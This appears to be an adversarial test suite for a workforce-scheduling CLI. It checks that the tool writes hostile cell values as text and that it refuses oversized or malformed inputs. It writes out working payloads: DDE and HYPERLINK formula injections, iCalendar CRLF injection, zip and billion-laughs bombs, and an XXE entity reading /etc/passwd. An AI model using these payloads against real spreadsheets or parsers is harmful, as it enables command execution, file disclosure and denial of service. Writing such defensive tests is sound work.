"""Adversarial cases, part 1: formula injection and memory/format bombs (see benchmarks/adversarial.py)."""

from __future__ import annotations

import os
import zipfile

import pandas as pd

from benchmarks.adversarial import DAYS, START, Ctx, case
from benchmarks.adversarial_files import (agents, csv_cells_starting, formulas_in, row_xml, set_config, table_rows,
                                          write_agents_csv, write_xlsx)

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def roster(ctx: Ctx, agents_file="agents.xlsx", out="out.xlsx", *extra, req="req.csv", time_limit="2",
           timeout: float = 120):
    ws = ctx.ws
    return ctx.wfm("roster", "-r", ws / req, "-a", ws / agents_file, "-c", ws / "config.toml", "--start", START,
                   "--days", DAYS, "--time-limit", time_limit, "-o", ws / out, *extra, timeout=timeout)


def no_formulas(ctx: Ctx, xlsx) -> None:
    if not xlsx.exists():
        ctx.fail(f"{xlsx.name} not written")
        return
    found = formulas_in(xlsx)
    if found:
        ctx.fail(f"formula written to {xlsx.name}: {found[0]}")


def no_csv_formulas(ctx: Ctx, path) -> None:
    bad = csv_cells_starting(path)
    if bad:
        ctx.fail(f"CSV {path.name} holds a cell a spreadsheet runs: {bad[0]!r}")


def roundtrip(ctx: Ctx, roster_file, agents_file, ids: list[str]) -> None:
    """`wfm check` and `wfm export` read the roster wfm wrote; the export lists each hostile id."""
    ws = ctx.ws
    r = ctx.wfm("check", ws / roster_file, "-a", ws / agents_file, "-c", ws / "config.toml")
    ctx.expect_ok(r, (0, 1))
    r = ctx.wfm("export", ws / roster_file, "-a", ws / agents_file, "-c", ws / "config.toml", "-o", ws / "exp",
                "--allow-violations")
    if not ctx.expect_ok(r):
        return
    manifest = pd.read_csv(ws / "exp" / "manifest.tsv", sep="\t", dtype=str, keep_default_na=False)
    got = set(manifest["agent_id"].str.lstrip("'"))
    for i in ids:
        if i not in got:
            ctx.fail(f"export manifest lacks agent {i!r}")
    for p in (ws / "exp").glob("*.csv"):
        no_csv_formulas(ctx, p)
    no_csv_formulas(ctx, ws / "exp_payroll.csv")


def _inject(ctx: Ctx, column: str, values: list[str], as_csv: bool = True):
    a = agents(ctx.ws)
    for i, v in enumerate(values):
        a.loc[i, column] = v
    if as_csv:
        return write_agents_csv(ctx.ws, a), a
    path = ctx.ws / "agents_h.xlsx"
    write_xlsx(path, table_rows(a))
    return path, a


@case("injection")
def agent_id_hyperlink_and_dde(ctx: Ctx) -> None:
    """Agent ids =HYPERLINK(...) and a DDE payload: text cells, and check/export read the roster back."""
    path, a = _inject(ctx, "agent_id", [HYPERLINK, DDE, "+1+1", "@SUM(A1)", "-2-2"])
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", path.name, list(a["agent_id"][:5]))


@case("injection")
def agent_id_formula_in_xlsx_input(ctx: Ctx) -> None:
    """The hostile ids arrive in an xlsx (inline strings) rather than a CSV."""
    path, a = _inject(ctx, "agent_id", [HYPERLINK, "=1+1"], as_csv=False)
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", path.name, list(a["agent_id"][:2]))


@case("injection")
def agent_name_and_team_formulas(ctx: Ctx) -> None:
    """Names and teams beginning with = + - @ (and tab/CR) are written as text everywhere."""
    a = agents(ctx.ws)
    a.loc[0, "name"], a.loc[1, "name"], a.loc[2, "name"] = DDE, "\t=1+2", "\r=3+4"
    a.loc[a["team"] == a.loc[0, "team"], "team"] = "=HYPERLINK(\"http://evil\")"
    a.loc[a["team"] == a.loc[3, "team"], "team"] = "@team"
    path = ctx.ws / "agents_h.xlsx"  # a bare CR would end a CSV row (pandas does not quote it)
    write_xlsx(path, table_rows(a))
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", path.name, list(a["agent_id"][:3]))


@case("injection")
def centre_and_shift_names_formulas(ctx: Ctx) -> None:
    """Centre name and shift template names from the config beginning with '='."""
    set_config(ctx.ws, "name", '"=HYPERLINK(\\"http://x\\")"', 0)
    set_config(ctx.ws, "name", '"=1+1"', 1)
    set_config(ctx.ws, "name", '"+cmd"', 2)
    if ctx.expect_ok(roster(ctx), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        roundtrip(ctx, "out.xlsx", "agents.xlsx", [])


@case("injection")
def zh_workbook_with_hostile_text(ctx: Ctx) -> None:
    """The Chinese workbook with hostile ids, names and centre name."""
    set_config(ctx.ws, "language", '"zh"')
    set_config(ctx.ws, "name", '"@中心"', 0)
    path, a = _inject(ctx, "name", [HYPERLINK, "=张三"])
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")


def _history_with_queue(ctx: Ctx, new: str) -> None:
    h = pd.read_csv(ctx.ws / "history.csv", dtype=str)
    h["queue"] = h["queue"].replace({"billing": new})
    h.to_csv(ctx.ws / "h.csv", index=False)


@case("injection")
def queue_name_formula_forecast_without_config(ctx: Ctx) -> None:
    """A queue =1+1 in a history read without config: forecast CSV quoted, workbook text."""
    _history_with_queue(ctx, "=HYPERLINK(\"http://x\",\"c\")")
    r = ctx.wfm("forecast", "--history", ctx.ws / "h.csv", "--start", START, "--days", "3", "--accuracy-folds",
                "2", "-o", ctx.ws / "f.csv")
    if r.code == 2:
        return  # refused with a message is fine
    if ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "f.csv")
        no_formulas(ctx, ctx.ws / "f.xlsx")


@case("injection")
def queue_name_formula_backtest(ctx: Ctx) -> None:
    """A queue +cmd in the backtest's CSV."""
    _history_with_queue(ctx, "+cmd|' /C calc'!A0")
    r = ctx.wfm("backtest", "--history", ctx.ws / "h.csv", "--days", "7", "--folds", "2", "-o", ctx.ws / "b.csv")
    if r.code != 2 and ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "b.csv")


@case("injection")
def queue_name_formula_in_config(ctx: Ctx) -> None:
    """A config queue label '=1+1': requirements CSV and roster text."""
    set_config(ctx.ws, "label", '"=1+1"')
    r = ctx.wfm("staff", "--forecast", ctx.ws / "forecast.csv", "-c", ctx.ws / "config.toml", "-o",
                ctx.ws / "r2.csv")
    if ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "r2.csv")
        if ctx.expect_ok(roster(ctx, "agents.xlsx", "out.xlsx", req="r2.csv"), (0, 1)):
            no_formulas(ctx, ctx.ws / "out.xlsx")


@case("injection")
def whatif_scenario_name_formula(ctx: Ctx) -> None:
    """A what-if scenario named '=1+1' (CSV and workbook)."""
    r = ctx.wfm("whatif", "-c", ctx.ws / "config.toml", "-f", ctx.ws / "forecast.csv", "--fte", "30",
                "-s", "=1+1:volume=1.1", "-s", "@x:aht=1.1", "-o", ctx.ws / "w.csv", "--xlsx", ctx.ws / "w.xlsx")
    if r.code != 2 and ctx.expect_ok(r):
        no_csv_formulas(ctx, ctx.ws / "w.csv")
        no_formulas(ctx, ctx.ws / "w.xlsx")


@case("injection")
def ics_crlf_injection(ctx: Ctx) -> None:
    """Agent name and id with CR/LF and ';' ',' cannot add a property to the .ics."""
    a = agents(ctx.ws)
    a.loc[0, "name"] = "Eve\r\nATTENDEE:mailto:evil@x\r\nX-EVIL:1"
    a.loc[1, "agent_id"] = "B2\nSUMMARY:pwned"
    path = write_agents_csv(ctx.ws, a)
    if not ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        return
    r = ctx.wfm("export", ctx.ws / "out.xlsx", "-a", path, "-c", ctx.ws / "config.toml", "-o", ctx.ws / "exp",
                "--allow-violations")
    if ctx.expect_ok(r):
        for ics in (ctx.ws / "exp").glob("*.ics"):
            for line in ics.read_bytes().split(b"\r\n"):
                if line.startswith((b"ATTENDEE", b"X-EVIL")) or line.startswith(b"SUMMARY:pwned"):
                    ctx.fail(f"{ics.name}: injected property {line[:60]!r}")
                if b"\n" in line or b"\r" in line:
                    ctx.fail(f"{ics.name}: bare line break in {line[:60]!r}")


@case("injection")
def control_characters_in_names(ctx: Ctx) -> None:
    """Control characters in names, ids and teams: removed or refused, never a crash after solving."""
    a = agents(ctx.ws)
    a.loc[0, "name"] = "bad\x01\x02\x1b[31mname\x7f"
    a.loc[1, "team"] = a.loc[1, "team"] + "\x0b"
    a.loc[2, "agent_id"] = "ID\x00x"
    path = write_agents_csv(ctx.ws, a)
    r = roster(ctx, path.name)
    if r.code != 2 and ctx.expect_ok(r, (0, 1)):
        no_formulas(ctx, ctx.ws / "out.xlsx")
        ctx.expect_ok(ctx.wfm("check", ctx.ws / "out.xlsx", "-a", path, "-c", ctx.ws / "config.toml"), (0, 1))


@case("injection")
def export_csv_of_hostile_agent(ctx: Ctx) -> None:
    """The per-agent CSV and payroll of an agent '-1+2': quoted; manifest maps it back."""
    path, a = _inject(ctx, "agent_id", ["-1+2", "=A1"])
    if ctx.expect_ok(roster(ctx, path.name), (0, 1)):
        roundtrip(ctx, "out.xlsx", path.name, ["-1+2", "=A1"])


# -------------------------------------------------------------------------------------------------- limits


def _agents_xlsx_rows(ctx: Ctx):
    return list(table_rows(agents(ctx.ws)))


def _validate_agents(ctx: Ctx, path, *words, timeout=120):
    r = ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", path, timeout=timeout)
    if r.code != 0:
        ctx.expect_error(r, *words)
    return r


@case("limits")
def xlsx_dimension_bomb_xfd1048576(ctx: Ctx) -> None:
    """A 2 KB agents xlsx with one cell at XFD1048576 (declared dimension A1:XFD1048576)."""
    rows = _agents_xlsx_rows(ctx) + ['<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>']
    write_xlsx(ctx.ws / "bomb.xlsx", iter(rows), dimension="A1:XFD1048576")
    r = ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "bomb.xlsx")
    ctx.expect_error(r, "bomb.xlsx")


@case("limits")
def xlsx_three_million_blank_rows(ctx: Ctx) -> None:
    """An agents xlsx with 3,000,000 blank rows after the table: bounded time and memory."""
    def rows():
        yield from _agents_xlsx_rows(ctx)
        for i in range(100, 3_000_100):
            yield f'<row r="{i}"><c r="A{i}" s="0"/></row>'
    write_xlsx(ctx.ws / "blank.xlsx", rows())
    r = ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "blank.xlsx", timeout=90)
    if r.code != 0:
        ctx.expect_error(r, "blank.xlsx")
    elif r.seconds > 60:
        ctx.fail(f"3M blank rows took {r.seconds:.0f} s")


@case("limits")
def xlsx_500mb_cell(ctx: Ctx) -> None:
    """A 0.5 MB xlsx holding one 500 MB cell (highly compressible)."""
    def rows():
        yield from _agents_xlsx_rows(ctx)[:2]
        yield '<row r="3"><c r="A3" t="inlineStr"><is><t>'
        for _ in range(500):
            yield "A" * 1_000_000
        yield "</t></is></c></row>"
    write_xlsx(ctx.ws / "cell.xlsx", rows())
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "cell.xlsx"), "cell.xlsx")


@case("limits")
def xlsx_zip_bomb_history(ctx: Ctx) -> None:
    """A history xlsx whose sheet XML unpacks to 2 GB of whitespace."""
    def rows():
        yield row_xml(1, ["interval_start", "queue", "offered"])
        for _ in range(2000):
            yield " " * 1_000_000
    write_xlsx(ctx.ws / "zip.xlsx", rows())
    r = ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-H", ctx.ws / "zip.xlsx")
    ctx.expect_error(r, "zip.xlsx")


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(2, 10)) + "]>\n")


@case("limits")
def xlsx_billion_laughs_sheet(ctx: Ctx) -> None:
    """Billion laughs in the sheet XML of an agents xlsx."""
    rows = _agents_xlsx_rows(ctx)[:1] + ['<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>']
    write_xlsx(ctx.ws / "lol.xlsx", iter(rows), doctype=LAUGHS)
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "lol.xlsx"), "lol.xlsx")


@case("limits")
def xlsx_billion_laughs_shared_strings(ctx: Ctx) -> None:
    """Billion laughs in sharedStrings.xml of a history xlsx."""
    shared = ('<?xml version="1.0"?>\n' + LAUGHS + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
              '2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    rows = [row_xml(1, ["interval_start", "queue", "offered"]), '<row r="2"><c r="A2" t="s"><v>0</v></c></row>']
    write_xlsx(ctx.ws / "lol.xlsx", iter(rows), shared=shared)
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-H", ctx.ws / "lol.xlsx"), "lol.xlsx")


@case("limits")
def xlsx_external_entity(ctx: Ctx) -> None:
    """An external entity (XXE) pointing at /etc/passwd: refused, never read into an agent's name."""
    doctype = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    rows = _agents_xlsx_rows(ctx)
    rows[1] = rows[1].replace("</row>", '<c r="Z2" t="inlineStr"><is><t>&xxe;</t></is></c></row>')
    write_xlsx(ctx.ws / "xxe.xlsx", iter(rows), doctype=doctype)
    r = ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "xxe.xlsx")
    ctx.expect_error(r, "xxe.xlsx")
    if "root:" in r.text:
        ctx.fail("the content of /etc/passwd was read")


@case("limits")
def dev_zero_as_history(ctx: Ctx) -> None:
    """/dev/zero given as the history."""
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-H", "/dev/zero", timeout=60), "/dev/zero")


@case("limits")
def fifo_as_agents(ctx: Ctx) -> None:
    """A named pipe nobody writes to, given as the agents file: refused, no hang."""
    os.mkfifo(ctx.ws / "pipe.csv")
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "pipe.csv", timeout=30),
                     "pipe.csv")


@case("limits")
def dev_zero_as_config(ctx: Ctx) -> None:
    """/dev/zero given as the config."""
    ctx.expect_error(ctx.wfm("validate", "-c", "/dev/zero", timeout=60), "/dev/zero")


@case("limits")
def fifo_as_config(ctx: Ctx) -> None:
    """A FIFO given as the config."""
    os.mkfifo(ctx.ws / "c.toml")
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "c.toml", timeout=30), "c.toml")


@case("limits")
def huge_config(ctx: Ctx) -> None:
    """A 60 MB config (a comment line repeated): refused or read, within memory."""
    with open(ctx.ws / "big.toml", "w") as f:
        f.write((ctx.ws / "config.toml").read_text())
        f.write(("# " + "x" * 98 + "\n") * 600_000)
    r = ctx.wfm("validate", "-c", ctx.ws / "big.toml")
    if r.code != 0:
        ctx.expect_error(r, "big.toml")


@case("limits")
def deeply_nested_config(ctx: Ctx) -> None:
    """A config with an array nested 100,000 deep (tomllib recursion)."""
    (ctx.ws / "deep.toml").write_text("x = " + "[" * 100_000 + "]" * 100_000 + "\n")
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "deep.toml"), "deep.toml")


@case("limits")
def config_not_utf8(ctx: Ctx) -> None:
    """A config saved in GBK."""
    text = (ctx.ws / "config.toml").read_text(encoding="utf-8")
    (ctx.ws / "gbk.toml").write_bytes(text.encode("gbk", "replace"))
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "gbk.toml"), "gbk.toml")


@case("limits")
def folder_as_history(ctx: Ctx) -> None:
    """A folder given as the history."""
    ctx.expect_error(ctx.wfm("forecast", "-H", ctx.ws, "--start", START, "--days", "3"), str(ctx.ws.name))


@case("limits")
def csv_one_giant_line(ctx: Ctx) -> None:
    """A 9 MB history CSV with no line break."""
    (ctx.ws / "line.csv").write_text("interval_start,queue,offered\n" + "9" * 9_000_000)
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-H", ctx.ws / "line.csv"), "line.csv")


@case("limits")
def csv_ten_thousand_columns(ctx: Ctx) -> None:
    """An agents CSV with 10,000 columns."""
    head = ",".join(["agent_id", "name", "team", "skills", "contract_hours_week"] + [f"c{i}" for i in range(10_000)])
    (ctx.ws / "wide.csv").write_text(head + "\n" + "A1,n,T,billing,40" + ",x" * 10_000 + "\n")
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "wide.csv"), "wide.csv")


@case("limits")
def csv_history_8mb_memory(ctx: Ctx) -> None:
    """A valid 9 MB history CSV (many queues): read within memory."""
    h = pd.read_csv(ctx.ws / "history.csv", dtype=str)
    frames = [h.assign(queue=h["queue"] + f"_{k}") for k in range(16)]
    pd.concat(frames).to_csv(ctx.ws / "h9.csv", index=False)
    r = ctx.wfm("forecast", "-H", ctx.ws / "h9.csv", "--start", START, "--days", "2", "--accuracy-folds", "0",
                "-o", ctx.ws / "f9.csv", "--no-xlsx", timeout=300)
    ctx.expect_ok(r)


@case("limits")
def nul_bytes_in_history(ctx: Ctx) -> None:
    """NUL bytes inside a history CSV."""
    data = (ctx.ws / "history.csv").read_bytes()
    (ctx.ws / "nul.csv").write_bytes(data[:5000] + b"\x00" * 100 + data[5000:])
    r = ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-H", ctx.ws / "nul.csv")
    ctx.expect_error(r, "nul.csv")


@case("limits")
def random_bytes_as_xlsx(ctx: Ctx) -> None:
    """Random bytes named .xlsx, a truncated xlsx and a CSV named .xlsx."""
    (ctx.ws / "rand.xlsx").write_bytes(os.urandom(20000))
    data = (ctx.ws / "agents.xlsx").read_bytes()
    (ctx.ws / "trunc.xlsx").write_bytes(data[: len(data) // 2])
    (ctx.ws / "csv.xlsx").write_bytes((ctx.ws / "history.csv").read_bytes()[:3000])
    for name in ("rand.xlsx", "trunc.xlsx", "csv.xlsx"):
        ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / name), name)


@case("limits")
def empty_files(ctx: Ctx) -> None:
    """Zero-byte history, agents and config."""
    for name in ("e.csv", "e.xlsx", "e.toml"):
        (ctx.ws / name).write_bytes(b"")
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-H", ctx.ws / "e.csv"), "e.csv")
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "e.xlsx"), "e.xlsx")
    r = ctx.wfm("validate", "-c", ctx.ws / "e.toml")
    ctx.expect_error(r, "e.toml")


@case("limits")
def roster_workbook_bomb_for_check(ctx: Ctx) -> None:
    """`wfm check` given a 2 KB xlsx declaring XFD1048576 as the roster."""
    rows = [row_xml(1, ["agent_id", "date"]), '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>']
    write_xlsx(ctx.ws / "r.xlsx", iter(rows), dimension="A1:XFD1048576")
    r = ctx.wfm("check", ctx.ws / "r.xlsx", "-a", ctx.ws / "agents.xlsx", "-c", ctx.ws / "config.toml")
    ctx.expect_error(r, "r.xlsx")


@case("limits")
def not_a_roster_workbook(ctx: Ctx) -> None:
    """`wfm check`, `export`, `simulate`, `adherence` on the agents workbook instead of a roster."""
    ws = ctx.ws
    for args in (["check", ws / "agents.xlsx", "-a", ws / "agents.xlsx", "-c", ws / "config.toml"],
                 ["export", ws / "agents.xlsx", "-a", ws / "agents.xlsx", "-c", ws / "config.toml", "-o", ws / "e"],
                 ["simulate", ws / "agents.xlsx", "-f", ws / "forecast.csv", "-c", ws / "config.toml", "-o",
                  ws / "s.csv"]):
        ctx.expect_error(ctx.wfm(*args), "agents.xlsx")


@case("limits")
def dev_urandom_special_days_and_leave(ctx: Ctx) -> None:
    """/dev/urandom as --special-days; a FIFO as --leave."""
    r = ctx.wfm("forecast", "-H", ctx.ws / "history.csv", "--start", START, "--days", "2", "--special-days",
                "/dev/urandom", "-o", ctx.ws / "f.csv", timeout=60)
    ctx.expect_error(r, "/dev/urandom")
    os.mkfifo(ctx.ws / "leave.csv")
    ctx.expect_error(roster(ctx, "agents.xlsx", "o.xlsx", "--leave", ctx.ws / "leave.csv"), "leave.csv")


@case("limits")
def symlink_to_dev_zero(ctx: Ctx) -> None:
    """agents.xlsx a symlink to /dev/zero; forecast for staff a symlink to /dev/zero."""
    os.symlink("/dev/zero", ctx.ws / "z.xlsx")
    os.symlink("/dev/zero", ctx.ws / "z.csv")
    ctx.expect_error(ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "z.xlsx", timeout=60),
                     "z.xlsx")
    ctx.expect_error(ctx.wfm("staff", "-f", ctx.ws / "z.csv", "-c", ctx.ws / "config.toml", "-o",
                             ctx.ws / "r.csv", timeout=60), "z.csv")


@case("limits")
def states_file_huge_cells(ctx: Ctx) -> None:
    """An adherence states CSV whose state cell is 5 MB."""
    (ctx.ws / "st.csv").write_text("agent_id,start,end,state\nS001,2026-12-07T08:00,2026-12-07T09:00,"
                                   + "x" * 5_000_000 + "\n")
    r = ctx.wfm("adherence", ctx.ws / "roster.xlsx", "--states", ctx.ws / "st.csv", "-c", ctx.ws / "config.toml",
                "-a", ctx.ws / "agents.xlsx", "-o", ctx.ws / "ad.xlsx")
    ctx.expect_error(r, "st.csv")


@case("limits")
def zip_with_many_members(ctx: Ctx) -> None:
    """An agents xlsx holding 50,000 extra zip members."""
    write_xlsx(ctx.ws / "many.xlsx", iter(_agents_xlsx_rows(ctx)))
    with zipfile.ZipFile(ctx.ws / "many.xlsx", "a") as z:
        for i in range(50_000):
            z.writestr(f"junk/{i}.xml", "")
    r = ctx.wfm("validate", "-c", ctx.ws / "config.toml", "-a", ctx.ws / "many.xlsx")
    if r.code != 0:
        ctx.expect_error(r, "many.xlsx")
